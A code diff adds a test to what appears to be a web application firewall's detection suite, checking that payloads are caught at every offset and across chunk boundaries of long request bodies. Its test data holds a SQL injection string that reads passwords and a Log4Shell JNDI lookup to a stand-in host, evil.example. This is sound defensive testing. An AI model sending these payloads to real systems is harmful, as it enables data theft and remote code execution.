@@ -288,6 +288,32 @@ describe('detection: limits and their counters', () => {
     }
   });
 
+  it('finds keywords at every offset of a long text body, whole or in chunks, and passes the prose around them', async () => {
+    // The keyword index tests every second position: words must be found at odd and even
+    // offsets, at the very start and end, and across the chunk edges of a streamed body.
+    const f = await detecting({}, 'protect', 1 << 20);
+    try {
+      const prose = "the customers pick items from the list and order them, it's fine -- don't you think? ".repeat(300);
+      const h = () => call('POST', '/notes', 'orders.shop', [['content-type', 'text/plain']]);
+      const payloads = ["' UNION SELECT password FROM users--", '${jndi:ldap://evil.example/a}'];
+      assert.equal(request(f, h(), FRONTEND, [Buffer.from(prose)]).status, 200, 'prose alone passes');
+      for (const payload of payloads) {
+        for (let pad = 0; pad < 4; pad++) {
+          const body = 'z'.repeat(pad) + payload + ' ' + prose + 'y'.repeat(pad) + ' ' + payload;
+          assert.equal(request(f, h(), FRONTEND, [Buffer.from(body)]).status, 403, `${payload} after ${pad}`);
+          const tail = prose + 'y'.repeat(pad) + ' ' + payload;
+          assert.equal(request(f, h(), FRONTEND, [Buffer.from(tail)]).status, 403, `${payload} at the end after ${pad}`);
+          const bytes = Buffer.from(tail);
+          const chunks: Uint8Array[] = [];
+          for (let i = 0; i < bytes.length; i += 5000 + pad) chunks.push(bytes.subarray(i, i + 5000 + pad));
+          assert.equal(request(f, h(), FRONTEND, chunks).status, 403, `${payload} at the end, in chunks, after ${pad}`);
+        }
+      }
+    } finally {
+      await f.close();
+    }
+  });
+
   it('long values are inspected in overlapping windows (value_windowed)', async () => {
     const f = await detecting({}, 'protect', 1 << 20);
     try {
